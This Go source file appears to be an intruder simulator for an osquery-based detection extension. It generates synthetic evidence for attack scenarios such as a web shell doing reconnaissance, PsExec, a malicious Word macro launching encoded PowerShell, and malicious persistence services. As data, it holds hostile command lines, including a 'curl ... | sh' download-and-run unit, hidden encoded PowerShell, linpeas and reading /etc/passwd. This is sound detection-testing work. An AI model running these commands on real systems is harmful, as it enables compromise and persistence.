package simulate

import (
	"fmt"

	"github.com/osquery-rollcall/rollcall/extension/evidence"
)

// story is one way an intruder goes about it.
type story struct {
	name string
	on   func(Kind) bool
	play func(h *Host, e *Evidence, midnight int64) (from, to int64)
}

func linux(k Kind) bool   { return k == LinuxServer || k == WebServer }
func web(k Kind) bool     { return k == WebServer }
func winsrv(k Kind) bool  { return k == WindowsServer }
func windows(k Kind) bool { return k == WindowsServer || k == Workstation }
func desktop(k Kind) bool { return k == Workstation }

var stories = []story{
	{"a web shell looks around", web, func(h *Host, e *Evidence, midnight int64) (int64, int64) {
		t := midnight + int64(h.rng.IntN(day-hour))
		s := h.daemon(e, "www-data", "33", evidence.Ancestor{PID: h.next(), Path: "/usr/bin/dash", CmdLine: "sh -c id"}, evidence.Ancestor{PID: 1001, Path: "/usr/sbin/apache2", CmdLine: "/usr/sbin/apache2 -k start"})
		s.run(t, "/usr/bin/id", "id")
		s.run(t+9, "/usr/bin/uname", "uname -a")
		s.run(t+20, "/usr/bin/systemctl", "systemctl list-units --type=service")
		s.run(t+40, "/usr/bin/cat", "cat /etc/passwd")
		return t, t + 60
	}},
	{"a stolen administrator at night, with a hidden unit", linux, func(h *Host, e *Evidence, midnight int64) (int64, int64) {
		t := midnight + hour + int64(h.rng.IntN(3*hour))
		s := h.ssh(e, t, h.Admins[0], "203.0.113.77")
		s.run(t+10, "/usr/bin/whoami", "whoami")
		s.sudo(t+20, "/usr/bin/systemctl", "systemctl list-unit-files --type=service")
		pid := s.sudo(t+120, "/usr/bin/tee", "tee /etc/systemd/system/dbus-cache.service")
		s.root(pid, "/usr/bin/tee", "tee /etc/systemd/system/dbus-cache.service").install(t+121, evidence.Install{Kind: "systemd", Name: "dbus-cache.service", Path: "/var/tmp/.cache/dbusd", ImagePath: "/var/tmp/.cache/dbusd",
			UnitPath: "/etc/systemd/system/dbus-cache.service", OnDisk: evidence.Yes, WritableByOthers: evidence.Yes, Packaged: evidence.No, Account: "root"})
		s.connect(t+140, "/var/tmp/.cache/dbusd", "198.51.100.9", 8443)
		return t, t + 200
	}},
	{"PsExec, then sc query, then a service of its own", winsrv, func(h *Host, e *Evidence, midnight int64) (int64, int64) {
		t := midnight + int64(h.rng.IntN(day-hour))
		e.logon(t, evidence.Windows, "adm-99", "network", "10.3.3.3", false)
		sys := h.system(e)
		sys.install(t+1, evidence.Install{Kind: "windows_service", Name: "PSEXESVC", Path: `C:\Windows\PSEXESVC.exe`, ImagePath: `%SystemRoot%\PSEXESVC.exe`, ServiceType: "0x10", StartType: "3", Account: "LocalSystem"})
		s := h.system(e, evidence.Ancestor{PID: h.next(), Path: `C:\Windows\System32\cmd.exe`, CmdLine: `cmd`}, evidence.Ancestor{PID: h.next(), Path: `C:\Windows\PSEXESVC.exe`, CmdLine: `C:\Windows\PSEXESVC.exe`})
		s.run(t+30, `C:\Windows\System32\sc.exe`, `sc  query type= service state= all`)
		s.run(t+50, `C:\Windows\System32\tasklist.exe`, `tasklist  /svc`)
		s.install(t+90, evidence.Install{Kind: "windows_service", Name: "WinHelpSvc", Path: `C:\Users\Public\helper.exe`, ImagePath: `C:\Users\Public\helper.exe -run`, ServiceType: "0x10", StartType: "2", Account: "LocalSystem"})
		return t, t + 120
	}},
	{"a document starts encoded PowerShell", desktop, func(h *Host, e *Evidence, midnight int64) (int64, int64) {
		t := midnight + 9*hour + int64(h.rng.IntN(7*hour))
		s := &session{e: e, platform: evidence.Windows, user: `CORP\` + h.Owner, uid: "S-1-5-21-1-7", id: "1", logon: "0x41000", elevated: evidence.No,
			chain: []evidence.Ancestor{{PID: h.next(), Path: `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, CmdLine: `WINWORD.EXE invoice.docm`}, {PID: 4100, Path: `C:\Windows\explorer.exe`, CmdLine: "explorer.exe"}}}
		s.run(t, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell -w hidden -enc RwBlAHQALQBTAGUAcgB2AGkAYwBlAA==`)
		s.connect(t+4, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "198.51.100.44", 443)
		return t, t + 10
	}},
	{"malware by the API alone", windows, func(h *Host, e *Evidence, midnight int64) (int64, int64) {
		t := midnight + int64(h.rng.IntN(day-hour))
		s := h.system(e)
		s.install(t, evidence.Install{Kind: "windows_service", Name: "xKqzTvPw", Path: `C:\Windows\Temp\xKqzTvPw.exe`, ImagePath: `C:\Windows\Temp\xKqzTvPw.exe`, ServiceType: "0x10", StartType: "2", Account: "LocalSystem"})
		return t, t + 10
	}},
	{"a new user takes notes by day", windows, func(h *Host, e *Evidence, midnight int64) (int64, int64) {
		t := midnight + 10*hour + int64(h.rng.IntN(5*hour))
		s := h.rdp(e, t, "helpdesk7", "10.7.7.7")
		s.run(t+10, `C:\Windows\System32\whoami.exe`, `whoami  /all`)
		s.run(t+20, `C:\Windows\System32\net.exe`, `net  user /domain`)
		s.run(t+30, `C:\Windows\System32\cmd.exe`, `cmd /c sc query state= all > C:\Users\Public\o.txt`)
		s.run(t+40, `C:\Windows\System32\wbem\WMIC.exe`, `wmic service get name,pathname,startmode`)
		return t, t + 60
	}},
	{"a stolen administrator by day, with a service in ProgramData", winsrv, func(h *Host, e *Evidence, midnight int64) (int64, int64) {
		t := midnight + 11*hour + int64(h.rng.IntN(4*hour))
		s := h.rdp(e, t, h.Admins[0], "10.1.0.11")
		s.run(t+10, `C:\Windows\System32\net.exe`, `net  start`)
		s.run(t+60, `C:\Windows\System32\sc.exe`, `sc  create HealthMon binPath= C:\ProgramData\HealthMon\mon.exe start= auto`)
		s.install(t+61, evidence.Install{Kind: "windows_service", Name: "HealthMon", Path: `C:\ProgramData\HealthMon\mon.exe`, ImagePath: `C:\ProgramData\HealthMon\mon.exe`, ServiceType: "0x10", StartType: "2", Account: "LocalSystem"})
		s.connect(t+90, `C:\ProgramData\HealthMon\mon.exe`, "198.51.100.80", 443)
		return t, t + 120
	}},
	{"linpeas by an account of a service", linux, func(h *Host, e *Evidence, midnight int64) (int64, int64) {
		t := midnight + int64(h.rng.IntN(day-hour))
		s := h.ssh(e, t, "backup", "10.5.5.5")
		s.run(t+5, "/usr/bin/bash", "bash /dev/shm/linpeas.sh -a")
		sh := s.under(h.next(), "/usr/bin/bash", "bash /dev/shm/linpeas.sh -a")
		sh.run(t+9, "/usr/bin/systemctl", "systemctl list-timers --all")
		sh.run(t+10, "/usr/bin/systemctl", "systemctl list-units --type=service --all")
		sh.run(t+11, "/usr/bin/find", "find /etc/systemd/system -writable")
		sh.run(t+12, "/usr/bin/cat", "cat /etc/passwd")
		sh.run(t+13, "/usr/bin/ss", "ss -tulpn")
		return t, t + 30
	}},
	{"a database runs commands", winsrv, func(h *Host, e *Evidence, midnight int64) (int64, int64) {
		t := midnight + int64(h.rng.IntN(day-hour))
		s := h.system(e, evidence.Ancestor{PID: h.next(), Path: `C:\Windows\System32\cmd.exe`, CmdLine: `"C:\Windows\system32\cmd.exe" /c net start`}, evidence.Ancestor{PID: 1800, Path: `C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe`, CmdLine: `sqlservr.exe -sMSSQLSERVER`})
		s.user, s.uid = `NT SERVICE\MSSQLSERVER`, "S-1-5-80-1"
		s.run(t, `C:\Windows\System32\net.exe`, `net  start`)
		return t, t + 5
	}},
	{"a new account asks other machines", winsrv, func(h *Host, e *Evidence, midnight int64) (int64, int64) {
		t := midnight + 22*hour
		s := h.rdp(e, t, "tmpadmin", "10.6.6.6")
		for i := range 5 {
			s.run(t+int64(10+i*7), `C:\Windows\System32\sc.exe`, fmt.Sprintf(`sc  \\srv%02d query state= all`, i))
		}
		return t, t + 60
	}},
	{"a unit that downloads, by root's cron", linux, func(h *Host, e *Evidence, midnight int64) (int64, int64) {
		t := midnight + int64(h.rng.IntN(day-hour))
		s := h.daemon(e, "root", "0", evidence.Ancestor{PID: h.next(), Path: "/usr/bin/dash", CmdLine: "sh -c /tmp/.x/run"}, evidence.Ancestor{PID: 810, Path: "/usr/sbin/cron", CmdLine: "/usr/sbin/cron -f"})
		s.run(t, "/usr/bin/systemctl", "systemctl list-units")
		s.install(t+5, evidence.Install{Kind: "systemd", Name: "systemd-netwrkd.service", Path: "/bin/sh", ImagePath: "/bin/sh -c 'curl -s http://198.51.100.5/a | sh'", UnitPath: "/etc/systemd/system/systemd-netwrkd.service",
			OnDisk: evidence.Yes, Account: "root"})
		return t, t + 10
	}},
	{"a new login at night, and its own ordinary unit", linux, func(h *Host, e *Evidence, midnight int64) (int64, int64) {
		t := midnight + 2*hour
		s := h.ssh(e, t, "deploy2", "10.8.8.8")
		s.sudo(t+20, "/usr/bin/systemctl", "systemctl list-units --type=service --state=running")
		pid := s.sudo(t+80, "/usr/bin/cp", "cp /home/deploy2/metrics.service /etc/systemd/system/metrics.service")
		s.root(pid, "/usr/bin/cp", "cp /home/deploy2/metrics.service /etc/systemd/system/metrics.service").install(t+80, evidence.Install{Kind: "systemd", Name: "metrics.service", Path: "/usr/local/bin/metricsd", ImagePath: "/usr/local/bin/metricsd",
			UnitPath: "/etc/systemd/system/metrics.service", OnDisk: evidence.Yes, WritableByOthers: evidence.No, Packaged: evidence.No, Account: "root"})
		return t, t + 100
	}},
}
